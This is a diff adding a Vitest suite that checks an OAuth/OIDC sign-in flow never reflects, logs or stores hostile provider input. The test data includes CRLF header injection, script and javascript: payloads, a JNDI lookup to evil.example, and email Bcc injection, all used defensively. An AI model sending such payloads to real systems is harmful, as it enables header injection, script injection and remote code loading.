@@ -1,0 +1,159 @@
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { json } from "./replies.ts";
+import { type RiggedProvider, startRiggedProvider } from "./rigged-provider.ts";
+import { type Attempt, attempt, CLIENT, expectNothing, restore } from "./trap.ts";
+
+/** What must come out nowhere. */
+const MARK = "zq-mark-zq";
+const HOSTILE: readonly (readonly [string, string])[] = [
+  ["a header behind CR and LF", `${MARK}\r\nSet-Cookie: a=${MARK}`],
+  ["a bare LF", `${MARK}\nLocation: https://evil.example`],
+  ["markup", `<script>alert("${MARK}")</script>`],
+  ["a scheme", `javascript:alert("${MARK}")`],
+  ["a URL", `https://evil.example/${MARK}`],
+  ["emoji", `😀${MARK}😀`],
+  ["marks that turn the direction", `\u202e${MARK}\u2066`],
+  ["a null byte", `\u0000${MARK}`],
+  ["an escape of a terminal", `\u001b[31m${MARK}`],
+  ["a format string", `%s%n\${jndi:ldap://evil.example/${MARK}}`],
+  ["100 kB", MARK.repeat(10_000)],
+  ["__proto__", "__proto__"],
+];
+
+const REPORTED = "the provider reports an error";
+const REFUSED = "the provider refuses the code";
+
+let rig: RiggedProvider;
+const console_ = ["log", "info", "warn", "error", "debug"] as const;
+
+beforeAll(async () => {
+  rig = await startRiggedProvider();
+});
+beforeEach(() => {
+  for (const level of console_) vi.spyOn(console, level);
+});
+afterEach(() => {
+  restore(rig);
+  vi.restoreAllMocks();
+});
+afterAll(() => rig.close());
+
+async function expectSilence({ response, station }: Attempt): Promise<void> {
+  const said = console_.flatMap((level) => vi.mocked(console[level]).mock.calls);
+  expect(said).toEqual([]);
+  const told = JSON.stringify([station.events, [...response.headers], await response.clone().text()]);
+  expect(told).not.toContain(MARK);
+  expect(told).not.toMatch(/evil|script|__proto__/);
+}
+
+describe("OAU-20 an error at the callback", () => {
+  it.each(HOSTILE)("is not reflected: %s", async (_, text) => {
+    const before = rig.requestsTo("token").length;
+    for (const changes of [
+      { error: text },
+      { error: "server_error", error_description: text },
+      { error: "server_error", error_uri: text },
+      { error: text, error_description: text, error_uri: text, code: undefined },
+    ]) {
+      const made = await attempt(rig, { changes });
+      await expectSilence(made);
+      await expectNothing(made, REPORTED);
+    }
+    expect(rig.requestsTo("token").length).toBe(before);
+  });
+
+  it("goes before a code that comes along (OAU-05)", async () => {
+    const before = rig.requestsTo("token").length;
+    for (const error of ["server_error", ""]) {
+      await expectNothing(await attempt(rig, { changes: { error } }), REPORTED);
+    }
+    expect(rig.requestsTo("token").length).toBe(before);
+  });
+
+  it("is none, and neither is a code that is missing, empty or endless", async () => {
+    const before = rig.requestsTo("token").length;
+    for (const code of [undefined, "", "x".repeat(4_097)]) {
+      await expectNothing(await attempt(rig, { changes: { code } }), REPORTED);
+    }
+    expect(rig.requestsTo("token").length).toBe(before);
+  });
+
+  it.each(["access_denied", "user_cancelled_authorize"])("is a denial where it says %s", async (error) => {
+    const changes = { error, error_description: MARK, code: undefined };
+    const made = await attempt(rig, { changes });
+    await expectSilence(made);
+    await expectNothing(made, "The sign-in was cancelled at the provider.", "oauth_denied");
+  });
+
+  it.each([
+    "ACCESS_DENIED",
+    "access_denied ",
+    "access_denied\u0000",
+    "invalid_request",
+    "temporarily_unavailable",
+    "login_required",
+  ])("is none where it says %j", async (error) => {
+    await expectNothing(await attempt(rig, { changes: { error, code: undefined } }), REPORTED);
+  });
+
+  it("twice, or without a state of ours, is no answer at all", async () => {
+    const { browser, response, station, writes } = await attempt(rig, {
+      changes: { state: MARK, error: MARK },
+    });
+    expect([response.status, (await response.json()).error]).toEqual([400, "oauth_state_invalid"]);
+    expect(JSON.stringify([station.events, [...response.headers]])).not.toContain(MARK);
+    const twice = await browser.get(`/auth/oauth/oidc/callback?error=${MARK}&error=${MARK}&state=${MARK}`);
+    expect([twice.status, await twice.text()]).toEqual([400, expect.not.stringContaining(MARK)]);
+    expect(writes).toEqual([]);
+  });
+});
+
+describe("OAU-20 an error at an endpoint", () => {
+  it.each(HOSTILE)("is not reflected: %s", async (_, text) => {
+    const body = { error: text, error_description: text };
+    for (const status of [200, 400, 401]) {
+      rig.answers.token = () => json(body, status, { "x-error": MARK, "www-authenticate": `Bearer ${MARK}` });
+      const made = await attempt(rig);
+      await expectSilence(made);
+      await expectNothing(made, REFUSED);
+    }
+    restore(rig);
+    rig.answers.userinfo = () => json(body, 401);
+    const made = await attempt(rig);
+    await expectSilence(made);
+    await expectNothing(made, "the provider answers with an unexpected status");
+  });
+
+  it("is not reflected where it stands in an ID token, a key set or the metadata", async () => {
+    rig.idToken = (right) => rig.mint({ claims: { ...right, iss: MARK, aud: MARK }, header: { kid: MARK } });
+    await expectSilence(await attempt(rig));
+    restore(rig);
+    rig.jwks = [{ kid: rig.key.kid, kty: MARK, alg: MARK, n: MARK }];
+    await expectSilence(await attempt(rig));
+  });
+
+  it("says nothing of our secret, whatever the provider echoes", async () => {
+    rig.answers.token = ({ headers }) => {
+      throw new Error(`${MARK} ${headers.authorization} ${CLIENT.clientSecret}`);
+    };
+    const made = await attempt(rig);
+    await expectSilence(made);
+    await expectNothing(made, "the provider answers with an unexpected status");
+  });
+});
+
+it.each([
+  ["a name", "name", "Ann\r\nSet-Cookie: a=b"],
+  ["a name of 10 kB", "name", "x".repeat(10_000)],
+  ["a name with an escape of a terminal", "name", "\u001b[31mAnn"],
+  ["a name that is half a pair", "name", "\ud800"],
+  ["a name that is an object", "name", { first: "Ann" }],
+  ["an address with a line end", "email", "ann@example.com\r\nBcc: x@example.com"],
+  ["an address of 10 kB", "email", `${"x".repeat(10_000)}@example.com`],
+  ["an address in a list", "email", ["ann@example.com"]],
+])("OAU-20 keeps nothing of %s", async (_, member, value) => {
+  rig.person = { sub: "rigged-1", [member]: value };
+  const { station } = await attempt(rig);
+  const user = await station.store.users.findByAccount({ provider: "oidc", subject: "rigged-1" });
+  expect(user).toMatchObject({ email: null, name: null, emailVerified: false });
+});
